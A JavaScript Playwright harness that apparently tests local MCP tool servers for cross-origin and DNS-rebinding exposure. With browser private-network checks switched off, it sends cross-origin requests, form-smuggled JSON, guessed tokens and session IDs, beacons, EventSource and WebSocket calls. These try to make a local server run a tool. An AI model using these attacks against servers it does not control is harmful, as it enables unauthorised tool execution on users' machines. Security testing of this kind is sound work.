// Opens a real browser on pages of foreign origins, each of which tries everything a page can to have a tool run on a
// server of this machine, and prints how much was tried as JSON: a number by page, of each target.
//
//   node browser.mjs CHROMIUM PROFILE '{"full": false, "targets": [{"pages": {"name": "URL"}, "url": "http://127.0.0.1:PORT", "tool": …, "args": {…}, "by": …}]}'
import { chromium } from 'playwright-core';

const [executablePath, profile, order] = process.argv.slice(2);
const { full, targets } = JSON.parse(order);

const context = await chromium.launchPersistentContext(profile, {
  executablePath, headless: true, chromiumSandbox: false, timeout: 120_000,
  args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update',
    '--disable-sync', '--disable-dev-shm-usage', '--disable-site-isolation-trials', '--renderer-process-limit=2',
    '--host-resolver-rules=MAP *.example 127.0.0.1', // names of an attacker, who points them where he likes
    // What the browser itself may refuse is not what is tried here.
    '--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessRespectPreflightResults,BlockInsecurePrivateNetworkRequests'],
});

// attack runs in the page. Where the target's tool takes an argument for it (by), every attempt names itself in it, so
// that the server's side can tell which one got through; else it sends the arguments as they are, and is none that is refused for them.
async function attack({ full, page, url, tool, args, by: naming }) {
  const port = new URL(url).port;
  const bases = full || location.port === port ? [url, `http://localhost:${port}`] : [url];
  if (location.port === port) bases.push(location.origin); // to the browser, the server itself
  const guesses = full ? ['1', 'guess', '00000000-0000-0000-0000-000000000000', 'ABCDEFGHIJKLMNOPQRSTUVWXYZ'] : ['guess'];
  let tried = 0;
  const doings = [];
  const soon = (ms) => new Promise((yes) => setTimeout(yes, ms));
  const within = (ms) => AbortSignal.timeout(ms);
  const attempt = (of, ms = 15_000) => { tried++; doings.push(Promise.race([Promise.resolve().then(of), soon(ms)]).catch(() => {})); };
  // What only reads comes last, since it may hold a connection without end, and a browser has few for one host.
  const later = [];
  const load = (of) => later.push(of);

  const meta = {
    'io.modelcontextprotocol/protocolVersion': '2026-07-28', 'io.modelcontextprotocol/clientInfo': { name: 'page', version: '1' },
    'io.modelcontextprotocol/clientCapabilities': {},
  };
  const call = (by, modern) => JSON.stringify({
    jsonrpc: '2.0', id: 7, method: 'tools/call', params: { name: tool, arguments: { ...args, ...(naming ? { [naming]: `${page}: ${by}` } : {}) }, ...(modern ? { _meta: meta } : {}) },
  });
  const hello = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-11-25', capabilities: {}, clientInfo: { name: 'page', version: '1' } } });
  const modernHeaders = { 'MCP-Protocol-Version': '2026-07-28', 'Mcp-Method': 'tools/call', 'Mcp-Name': tool };
  const types = ['application/json', 'text/plain'];
  if (full) types.push('application/x-www-form-urlencoded', 'application/json; charset=utf-8', 'text/plain; application/json');

  for (const base of bases) {
    const at = new URL(base).host;
    // The stateless era: one request is enough.
    for (const type of types) {
      for (const mode of ['cors', 'no-cors', 'same-origin']) {
        for (const credentials of full ? ['omit', 'include'] : ['include']) {
          attempt(() => fetch(`${base}/mcp`, { method: 'POST', mode, credentials, headers: { 'Content-Type': type, ...(mode === 'no-cors' ? {} : modernHeaders) }, body: call(`fetch ${mode} ${type} ${at}`, true), signal: within(14_000) }));
        }
      }
      attempt(() => new Promise((done) => {
        const x = new XMLHttpRequest();
        x.open('POST', `${base}/mcp`);
        x.setRequestHeader('Content-Type', type);
        for (const [k, v] of Object.entries(modernHeaders)) x.setRequestHeader(k, v);
        x.onloadend = done;
        x.send(call(`xhr ${type} ${at}`, true));
      }));
    }
    attempt(() => fetch(`${base}/mcp`, { method: 'POST', headers: { 'Content-Type': 'application/json', Authorization: 'Bearer guess', ...modernHeaders }, body: call(`guessed token ${at}`, true), signal: within(14_000) }));
    // The sessions era: initialize, then the session it names.
    for (const type of types) {
      attempt(async () => {
        const r = await fetch(`${base}/mcp`, { method: 'POST', headers: { 'Content-Type': type }, body: hello, signal: within(14_000) });
        const session = r.headers.get('Mcp-Session-Id');
        await fetch(`${base}/mcp`, { method: 'POST', headers: { 'Content-Type': type, ...(session ? { 'Mcp-Session-Id': session } : {}) }, body: call(`session ${type} ${at}`), signal: within(14_000) });
      });
    }
    for (const guess of guesses) {
      attempt(() => fetch(`${base}/mcp`, { method: 'POST', headers: { 'Content-Type': 'application/json', 'Mcp-Session-Id': guess }, body: call(`guessed session ${at}`), signal: within(14_000) }));
      attempt(() => fetch(`${base}/mcp`, { method: 'DELETE', headers: { 'Mcp-Session-Id': guess }, signal: within(14_000) }));
      for (const mode of ['cors', 'no-cors']) {
        attempt(() => fetch(`${base}/message?sessionId=${guess}`, { method: 'POST', mode, headers: { 'Content-Type': 'text/plain' }, body: call(`guessed stream ${mode} ${at}`), signal: within(14_000) }));
      }
      attempt(() => navigator.sendBeacon(`${base}/message?sessionId=${guess}`, new Blob([call(`beacon ${at}`)], { type: 'text/plain' })));
    }
    attempt(() => navigator.sendBeacon(`${base}/mcp`, new Blob([call(`beacon ${at}`, true)], { type: 'text/plain' })));
    // The stream of old: its first event says where to post, and posting needs no reading.
    attempt(() => new Promise((done) => {
      const stream = new EventSource(`${base}/sse`);
      stream.onerror = () => { stream.close(); done(); };
      stream.addEventListener('endpoint', async (e) => {
        for (const body of [hello, call(`EventSource ${at}`)]) {
          await fetch(new URL(e.data, base), { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body }).catch(() => {});
        }
        await soon(500);
        stream.close();
        done();
      });
    }));
    load(() => new Promise((done) => { const stream = new EventSource(`${base}/mcp`); stream.onerror = () => { stream.close(); done(); }; }));
    for (const path of ['/mcp', '/sse', '/message?sessionId=1', '/metrics', '/healthz', '/view/', '/']) {
      load(() => new Promise((done) => { const s = new WebSocket(base.replace('http', 'ws') + path); s.onopen = () => { s.send(call(`WebSocket ${at}`, true)); done(); }; s.onerror = done; }));
      for (const tag of full ? ['img', 'script', 'iframe', 'embed', 'video'] : ['img', 'script', ...(path === '/sse' ? ['iframe'] : [])]) {
        load(() => new Promise((done) => { const e = document.createElement(tag); e.onload = e.onerror = done; e.src = `${base}${path}`; document.body.append(e); }));
      }
      load(() => new Promise((done) => { const e = document.createElement('link'); e.rel = 'stylesheet'; e.onload = e.onerror = done; e.href = `${base}${path}`; document.head.append(e); }));
      load(() => fetch(`${base}${path}`, { signal: within(1500) }).then((r) => r.text()));
      load(() => fetch(`${base}${path}`, { mode: 'no-cors', signal: within(1500) }));
    }
    // Forms ask nobody: as text/plain, name=value may well be JSON.
    const form = (action, message, enctype) => new Promise((done) => {
      const frame = document.createElement('iframe');
      frame.name = `f${Math.random()}`;
      document.body.append(frame);
      const f = document.createElement('form');
      Object.assign(f, { method: 'post', action, enctype, target: frame.name });
      const input = document.createElement('input');
      const cut = message.lastIndexOf('"}');
      Object.assign(input, { type: 'hidden', name: message.slice(0, cut), value: message.slice(cut) });
      f.append(input);
      document.body.append(f);
      f.submit();
      frame.onload = done;
    });
    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
      attempt(() => form(`${base}/mcp`, call(`form ${enctype} ${at}`), enctype));
      attempt(() => form(`${base}/message?sessionId=1`, call(`form ${enctype} ${at}`), enctype));
      for (const path of ['login', 'act']) attempt(() => form(`${base}/view/${path}`, 'act=save&tool=search&args={"pattern":"needle"}&token=guess"}', enctype));
    }
  }
  await Promise.all(doings);
  for (const of of later) attempt(of, 2000);
  await Promise.all(doings);
  return tried;
}

const tried = [];
for (const { pages, ...target } of targets) {
  const counts = {};
  await Promise.all(Object.entries(pages).map(async ([name, from]) => {
    const page = await context.newPage();
    // The page of a name that was pointed at the server after it was loaded: it comes from the attacker, what it asks for does not.
    await page.route((u) => u.pathname === '/rebound', (route) => route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>page</title><body>' }));
    await page.goto(from, { timeout: 120_000 });
    counts[name] = await page.evaluate(attack, { full, page: name, ...target });
    await page.close();
  }));
  tried.push(counts);
}
await context.close();
console.log(JSON.stringify(tried));
